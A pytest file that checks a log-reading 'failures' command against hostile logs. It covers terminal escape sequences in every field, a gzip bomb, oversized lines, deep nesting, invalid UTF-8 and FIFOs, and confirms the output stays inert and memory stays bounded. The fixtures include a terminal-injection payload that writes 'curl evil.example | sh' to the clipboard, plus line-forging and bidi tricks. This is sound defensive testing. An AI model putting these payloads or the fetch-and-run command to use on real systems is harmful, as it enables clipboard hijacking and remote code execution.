"""``python -m supervisor failures`` on hostile logs (issue 8, item 1).

Logs are attacker-influenced text: exception messages carry user input, and
anything that can write to a log can write anything.  These tests feed the
command what an attacker (or a crashed disk) would: terminal escape
sequences in every field, a gzip bomb, a 100 MB line, deep nesting, invalid
UTF-8 and NUL bytes, FIFOs, directories and more distinct groups than
anyone needs, and check that the output stays inert, memory stays bounded,
nothing raises and nothing hangs.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import re
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import supervisor
from supervisor import _failures, _failures_groups, _failures_io
from supervisor._failures_cli import format_group, main, visible
from supervisor._tracebacks import render_traceback

_ROOT = str(Path(next(iter(supervisor.__path__))).resolve().parent)

# The trial of issue 8: retitle the terminal (OSC 0), clear it (CSI 2J),
# write to the clipboard (OSC 52), then move up a line, erase it and print
# a reassuring lie over it.
_CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
ATTACK = (
    "\x1b]0;pwned\x07"
    "\x1b[2J\x1b[H"
    f"\x1b]52;c;{_CLIPBOARD}\x07"
    "\x1b[1A\x1b[2K"
    "FAKE: all good"
)
# The same in other spellings: C1 controls (U+009B is a one-character CSI,
# U+009D an OSC), BEL, backspace, CR overprinting, DEL, NUL, a fake line
# after a newline, the Unicode line separator, a bidi override.
OTHERS = (
    "\x9b2J\x9d0;pwned\x9c\x07\x08\x08\rFAKE\x7f\x00"
    "\nFAKE: all good\u2028FAKE\u202egnp.exe"
)

# What may not appear in text output: C0 but tab and newline, DEL, C1,
# separators, bidi controls, BOM, surrogates.
_FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f"
    "\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)


def _env(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [_ROOT, env.get("PYTHONPATH")]))
    env.update(extra)
    return env


def _command(*args: str, stdin: bytes | None = None, **env: str) -> Any:
    return subprocess.run(
        [sys.executable, "-m", "supervisor", "failures", *args],
        input=stdin,
        capture_output=True,
        env=_env(**env),
        timeout=60,
        check=False,
    )


def assert_terminal_safe(output: bytes) -> str:
    """*output* holds no byte or character that a terminal would act on."""
    raw = [
        byte for byte in output if (byte < 0x20 and byte not in b"\t\n") or byte == 0x7F
    ]
    assert raw == [], f"raw control bytes reach the terminal: {raw!r}"
    text = output.decode("utf-8")  # strict: a lone C1 byte would fail here
    found = _FORBIDDEN.findall(text)
    assert found == [], f"control characters reach the terminal: {found!r}"
    for line in text.splitlines():
        assert not line.startswith("FAKE"), "a log field forged a line"
    return text


def _failure(**fields: Any) -> dict[str, Any]:
    record = {
        "event": "task:failed",
        "level": "error",
        "task_id": "t-1",
        "task_name": "send_email",
        "supervisor": "app",
        "error_type": "ValueError",
        "error": "boom",
        "request_id": "r-1",
        "timestamp": "2026-11-27T10:00:00Z",
    }
    record.update(fields)
    return record


def _hostile_records(payload: str) -> list[dict[str, Any]]:
    """One failure per field that the command prints, each carrying *payload*."""
    frames = [{"filename": payload, "lineno": 1, "name": payload}]
    structured = [
        {
            "exc_type": payload,
            "exc_value": payload,
            "exc_notes": [payload],
            "syntax_error": {"filename": payload, "lineno": 1, "line": payload},
            "is_cause": False,
            "frames": frames,
            "is_group": False,
            "exceptions": [],
        }
    ]
    records = [
        _failure(task_name=payload),
        _failure(task_name="a", error_type=payload),
        _failure(task_name="b", task_id=payload, request_id=payload),
        _failure(task_name="c", supervisor=payload),
        _failure(task_name="d", error=payload),  # no traceback: the error shows
        _failure(task_name="e", timestamp=payload),
        _failure(
            task_name="f", exception=f"Traceback:\n  {payload}\nValueError: {payload}"
        ),
        _failure(task_name="g", exception=structured),
        _failure(task_name="h", error_type=None, exception=structured),
    ]
    for number, record in enumerate(records):
        if record["task_id"] == "t-1":
            record["task_id"] = f"t-{number}-{len(payload)}"
    return records


@pytest.fixture(params=["ascii-escaped", "raw-utf8"])
def hostile_log(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """A log whose every printed field holds terminal escape sequences."""
    ensure_ascii = request.param == "ascii-escaped"
    path = tmp_path / "hostile.log"
    lines = [
        json.dumps(record, ensure_ascii=ensure_ascii)
        for payload in (ATTACK, OTHERS)
        for record in _hostile_records(payload)
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_the_issue_8_attack_is_shown_not_replayed(hostile_log: Path) -> None:
    """Escape sequences in every field come out as visible escapes, never raw."""
    proc = _command(str(hostile_log))

    assert proc.returncode == 1, proc.stderr
    assert_terminal_safe(proc.stderr)
    text = assert_terminal_safe(proc.stdout)
    # Shown, so the operator sees what the log tried to do.
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[H\\x1b]52;c;" in text
    assert "\\x1b[1A\\x1b[2KFAKE: all good" in text
    assert "\\x9b2J\\x9d0;pwned\\x9c\\x07\\x08\\x08\\rFAKE\\x7f\\x00\\nFAKE" in text
    assert "\\u2028FAKE\\u202egnp.exe" in text
    assert "18 failures in 12 groups" in text


def test_escapes_hold_on_a_latin_1_terminal(hostile_log: Path) -> None:
    """Where C1 characters would be single raw bytes (latin-1), none is written."""
    proc = _command(str(hostile_log), PYTHONIOENCODING="latin-1")

    assert proc.returncode == 1
    c1 = [byte for byte in proc.stdout if 0x80 <= byte <= 0x9F]
    assert c1 == []
    assert_terminal_safe(proc.stdout.decode("latin-1").encode("utf-8"))


def test_json_output_is_ascii_and_lossless(hostile_log: Path) -> None:
    """``--json`` stays valid JSON, pure ASCII, and gives back the exact text."""
    proc = _command("--json", str(hostile_log))

    assert proc.returncode == 1
    assert all(byte < 0x80 for byte in proc.stdout)
    assert_terminal_safe(proc.stdout)
    assert_terminal_safe(proc.stderr)
    groups = [json.loads(line) for line in proc.stdout.decode("ascii").splitlines()]
    names = {group["task_name"] for group in groups}
    assert {ATTACK, OTHERS} <= names
    by_name = {group["task_name"]: group for group in groups}
    assert by_name["c"]["supervisors"] == [ATTACK, OTHERS]
    assert any(ATTACK in (group["last_traceback"] or "") for group in groups)


def test_hostile_file_names_in_errors_are_escaped(tmp_path: Path) -> None:
    """An error message quoting a file name never replays its escapes."""
    proc = _command(str(tmp_path / f"missing{ATTACK}.log"))

    assert proc.returncode == 2
    assert proc.stdout == b""
    text = assert_terminal_safe(proc.stderr)
    assert "cannot read" in text
    assert "\\x1b]0;pwned" in text


def test_visible_escapes_every_control_and_keeps_text() -> None:
    """Every C0, DEL and C1 character is escaped; ordinary text is untouched."""
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        shown = visible(chr(code))
        assert _FORBIDDEN.search(shown) is None
        assert shown.startswith("\\"), (code, shown)
    assert visible("\t\n\r") == "\\t\\n\\r"
    assert visible("a\tb\nc\rd", block=True) == "a\tb\nc\\rd"
    text = "send_email \u00e9t\u00e9 \u4e2d\u6587 \U0001f600 C:\\path\\x1b"
    assert visible(text) == text


def test_a_traceback_cannot_forge_report_lines() -> None:
    """Traceback lines stay indented; separators inside them do not break lines."""
    group = _failures.Group("t", "E")
    line = json.dumps(
        _failure(exception=f"Traceback\n{ATTACK}\x0cFAKE\x1cFAKE")
    ).encode()
    group.add(
        None,
        None,
        task_id="t",
        request_id=None,
        supervisor=None,
        error=None,
        has_traceback=True,
    )
    group.set_example(line, json.loads(line)["exception"])
    text = format_group(group)
    assert_terminal_safe(text.encode())
    assert "    \\x1b]0;pwned" in text
    assert "\\x0cFAKE\\x1cFAKE" in text


# -- bounded memory -----------------------------------------------------------


_RSS_PROBE = """
import json, resource, subprocess, sys
proc = subprocess.run(sys.argv[1:], capture_output=True)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
if sys.platform == "darwin":
    peak //= 1024
print(json.dumps({"status": proc.returncode, "peak_kib": peak,
                  "out": proc.stdout.decode(), "err": proc.stderr.decode()}))
"""


def _peak_rss(*args: str) -> dict[str, Any]:
    """Run the command in a fresh parent and return its exit, output and peak RSS."""
    pytest.importorskip("resource")
    command = [sys.executable, "-m", "supervisor", "failures", *args]
    probe = subprocess.run(
        [sys.executable, "-c", _RSS_PROBE, *command],
        capture_output=True,
        env=_env(),
        timeout=120,
        check=True,
    )
    result: dict[str, Any] = json.loads(probe.stdout)
    return result


def _line(record: dict[str, Any]) -> bytes:
    return json.dumps(record).encode() + b"\n"


def test_gzip_bomb_costs_bounded_memory(tmp_path: Path) -> None:
    """A 1 MB gzip that expands to a GiB without a newline is streamed past."""
    member = gzip.compress(b"\0" * (1 << 20), 9)  # 1 MiB of zeros in 1 KB
    bomb = tmp_path / "app.log.gz"
    with bomb.open("wb") as out:
        out.write(gzip.compress(_line(_failure(task_name="before"))))
        for _ in range(1024):  # members concatenate: 1 GiB of zeros
            out.write(member)
        out.write(gzip.compress(b"\n" + b"\n" * 100_000))
        out.write(gzip.compress(_line(_failure(task_name="after"))))
    assert bomb.stat().st_size < 2_000_000

    run = _peak_rss("--json", str(bomb))

    assert run["status"] == 1, run["err"]
    names = [json.loads(line)["task_name"] for line in run["out"].splitlines()]
    assert sorted(names) == ["after", "before"]
    assert "1 line skipped (longer than 1 MiB)" in run["err"]
    assert run["peak_kib"] < 120 * 1024, f"peak RSS {run['peak_kib'] / 1024:.0f} MiB"


@pytest.fixture
def traced() -> Iterator[None]:
    tracemalloc.start()
    yield
    tracemalloc.stop()


def _peak_mib() -> float:
    return tracemalloc.get_traced_memory()[1] / (1 << 20)


def test_a_100_mb_line_is_skipped_in_pieces(tmp_path: Path, traced: None) -> None:
    """One 100 MB line without a newline is counted bad, never held whole."""
    path = tmp_path / "app.log"
    piece = b"x" * (1 << 20)
    with path.open("wb") as out:
        out.write(_line(_failure(task_name="before")))
        out.write(b'{"event": "task:failed", "level": "error", "error": "')
        for _ in range(100):
            out.write(piece)
        out.write(b'"}\n')
        out.write(_line(_failure(task_name="after")))
        out.write(b"no newline at the end either, " + piece * 3)
    tracemalloc.reset_peak()

    result = _failures.scan_files([str(path)])

    assert _peak_mib() < 12, f"peak {_peak_mib():.1f} MiB"
    assert result.lines == 4
    assert result.failures == 2
    assert result.skipped == {"longer than 1 MiB": 2}


def test_line_cap_is_exact(monkeypatch: pytest.MonkeyPatch) -> None:
    """A line of MAX_LINE bytes (newline included) is read; one byte more is not."""
    monkeypatch.setattr(_failures, "MAX_LINE", 300)
    base = _line(_failure(error=""))
    fits = base.replace(b'"error": ""', b'"error": "' + b"e" * (300 - len(base)) + b'"')
    assert len(fits) == 300
    over = fits.replace(b'"e', b'"ee', 1)
    scanner = _failures.Scanner()
    scanner.feed_stream(_stream(fits + over + fits[:-1]))
    assert scanner.result.lines == 3
    assert scanner.result.failures == 2
    assert scanner.result.skipped == {"longer than 300 bytes": 1}


def _stream(data: bytes) -> Any:
    import io

    return io.BufferedReader(io.BytesIO(data), buffer_size=64)  # type: ignore[arg-type]


def test_deep_nesting_is_counted_bad_never_recursion(tmp_path: Path) -> None:
    """Deeply nested JSON is a skipped line, whatever the depth, never a crash."""
    shallow_enough = "[" * 150 + "]" * 150
    lines = [
        # Deeper than json can decode at all.
        b'{"event": "task:failed", "level": "error", "exception": '
        + b"[" * 100_000
        + b"]" * 100_000
        + b"}\n",
        # Decodable, but deeper than MAX_DEPTH: refused before any recursion.
        b'{"event": "task:failed", "level": "error", "task_name": '
        + b"[" * 500
        + b"]" * 500
        + b"}\n",
        b'{"event": "task:failed", "level": ' + b"[" * 900 + b"]" * 900 + b"}\n",
        # Not failures: an array too deep to decode, one that decodes.
        b"[" * 100_000 + b"\n",
        b"[" * 300 + b"]" * 300 + b"\n",
        # Within the limit: a failure like any other.
        _line(_failure(task_name="ok", exception=json.loads(shallow_enough))),
    ]
    path = tmp_path / "deep.log"
    path.write_bytes(b"".join(lines))

    result = _failures.scan_files([str(path)])

    assert result.skipped == {"nested too deeply": 4, "not an object": 1}
    assert result.failures == 1
    [group] = result.groups.values()
    assert group.last_traceback is None or isinstance(group.last_traceback, str)
    assert main(["failures", str(path)]) == 1


def test_render_traceback_survives_any_depth() -> None:
    """The renderer given a structure deeper than the stack returns a note."""
    deep: dict[str, Any] = {"exc_type": "E", "is_group": True, "exceptions": []}
    node = deep
    for _ in range(5000):  # far past the recursion limit
        child: dict[str, Any] = {"exc_type": "E", "is_group": True, "exceptions": []}
        node["exceptions"] = [child]
        node = child
    assert render_traceback([deep]) == "(a traceback nested too deeply to render)"


def test_invalid_utf8_and_nul_bytes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Invalid UTF-8 and NUL bytes are counted bad; escaped NULs are shown escaped."""
    good = _line(_failure(task_name="nul\u0000name", error="x\ud800y"))
    lines = [
        b'{"event": "task:failed", "level": "error", "task_name": "caf\xe9"}\n',
        b'{"event": "task:failed", "level": "error", "task_name": "a\x00b"}\n',
        b'["\xff\xfe"]\n',
        b"\x00" * 5000 + b"\n",  # what a crash leaves in a preallocated log
        b"\xff\xfe\x00{\x00\n",
        good,
    ]
    path = tmp_path / "bytes.log"
    path.write_bytes(b"".join(lines))

    assert main(["failures", str(path)]) == 1

    out = capsys.readouterr().out
    assert_terminal_safe(out.encode("utf-8", "backslashreplace"))
    assert "nul\\x00name" in out
    assert "x\\ud800y" in out
    assert out.rstrip().endswith(
        "1 failure in 1 group; 5 lines skipped (3 not JSON, 2 not UTF-8)"
    )


_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX FIFOs only")


def _writer(path: Path, data: bytes, *, delay: float = 0.0) -> threading.Thread:
    def write() -> None:
        with path.open("wb") as out:  # blocks until the command opens it
            if delay:
                time.sleep(delay)
            out.write(data)

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    return thread


def _unblock(path: Path, thread: threading.Thread) -> None:
    """If the command never opened the FIFO, release the writer thread."""
    if thread.is_alive():
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        thread.join(5)
        os.close(fd)
    assert not thread.is_alive()


@_fifo
def test_fifo_is_read_as_it_is_written(tmp_path: Path) -> None:
    """A FIFO with a writer works like a file."""
    fifo = tmp_path / "log.fifo"
    os.mkfifo(fifo)
    thread = _writer(fifo, _line(_failure()) * 3)
    try:
        result = _failures.scan_files([str(fifo)])
    finally:
        _unblock(fifo, thread)
    assert result.failures == 3


@_fifo
def test_fifo_with_a_quiet_writer_is_waited_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A writer that holds the FIFO open but is slow to write is waited for."""
    monkeypatch.setattr(_failures_io, "FIFO_WAIT", 0.05)
    fifo = tmp_path / "log.fifo"
    os.mkfifo(fifo)
    thread = _writer(fifo, _line(_failure()), delay=0.5)
    try:
        result = _failures.scan_files([str(fifo)])
    finally:
        _unblock(fifo, thread)
    assert result.failures == 1


@_fifo
def test_fifo_without_a_writer_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A FIFO nobody writes to ends with exit 2 and a message, not a hang."""
    monkeypatch.setattr(_failures_io, "FIFO_WAIT", 0.2)
    fifo = tmp_path / "log.fifo"
    os.mkfifo(fifo)
    started = time.monotonic()

    assert main(["failures", str(fifo)]) == 2

    assert time.monotonic() - started < 10
    err = capsys.readouterr().err
    assert f"cannot read {str(fifo)!r}: it is a FIFO and no process has written" in err
    assert "pipe the log to standard input instead" in err


@_fifo
def test_process_substitution(tmp_path: Path) -> None:
    """``<(zcat app.log.gz)``, the shell's FIFO, works."""
    log = tmp_path / "app.log.gz"
    log.write_bytes(gzip.compress(_line(_failure()) * 2))
    proc = subprocess.run(
        [
            "bash",
            "-c",
            '"$0" -m supervisor failures <(zcat "$1")',
            sys.executable,
            log,
        ],
        capture_output=True,
        env=_env(),
        timeout=60,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr
    assert b"x2 (1 task)" in proc.stdout


def test_directory_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A directory is exit 2 with what to pass instead, before any scanning."""
    log = tmp_path / "app.log"
    log.write_bytes(_line(_failure()))
    assert main(["failures", str(log), str(tmp_path)]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.strip().endswith(
        f"cannot read {str(tmp_path)!r}: it is a directory; pass the log files "
        f"in it instead, such as {tmp_path / '*.log'}"
    )


def test_distinct_groups_are_capped_and_reported(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Past MAX_GROUPS, failures are counted, not grouped; the summary says so."""
    monkeypatch.setattr(_failures, "MAX_GROUPS", 50)
    path = tmp_path / "many.log"
    path.write_bytes(b"".join(_line(_failure(task_name=f"t{n}")) for n in range(80)))

    assert main(["failures", "--json", str(path)]) == 1

    captured = capsys.readouterr()
    assert len(captured.out.splitlines()) == 50
    assert captured.err.strip() == (
        "80 failures in 50 groups; 30 of them in groups past the first 50, not "
        "shown (too many distinct task name and error type pairs)"
    )


def test_many_groups_with_long_names_stay_bounded(traced: None) -> None:
    """Thousands of groups of long names and tracebacks cost bounded memory."""
    scanner = _failures.Scanner()
    long = "n" * 2000
    traceback = "Traceback\n" + "t" * 40_000  # past what is kept raw: rendered, cut
    tracemalloc.reset_peak()
    scanner.feed(
        _line(
            _failure(
                task_name=f"{n}{long}",  # cut to MAX_TEXT: still distinct
                task_id=f"{n}{long}",
                request_id=f"{n}{long}",
                error=long * 3,
                exception=traceback,
            )
        )
        for n in range(3000)
    )
    result = scanner.result
    assert len(result.groups) == _failures.MAX_GROUPS
    assert result.ungrouped == 3000 - _failures.MAX_GROUPS
    assert _peak_mib() < 80, f"peak {_peak_mib():.0f} MiB"
    group = next(iter(result.groups.values()))
    assert group.task_name == "0" + "n" * 255 + "... [1,745 more characters]"
    assert (group.last_error or "").endswith("... [1,904 more characters]")
    assert (group.last_traceback or "").endswith("... [7,242 more characters]")


def test_task_and_request_id_caps(monkeypatch: pytest.MonkeyPatch) -> None:
    """The distinct-id sets are capped across groups and say when they are."""
    monkeypatch.setattr(_failures_groups, "MAX_TASK_IDS", 5)
    monkeypatch.setattr(_failures_groups, "MAX_ALL_REQUEST_IDS", 4)
    scanner = _failures.Scanner()
    scanner.feed(
        _line(_failure(task_name=f"g{n % 2}", task_id=f"t{n}", request_id=f"r{n}"))
        for n in range(10)
    )
    groups = scanner.result.groups
    assert sum(group.tasks for group in groups.values()) == 5
    assert all(group.tasks_truncated for group in groups.values())
    assert sum(len(group.request_ids) for group in groups.values()) == 4
    assert "+ tasks)" in format_group(groups["g0", "ValueError"])
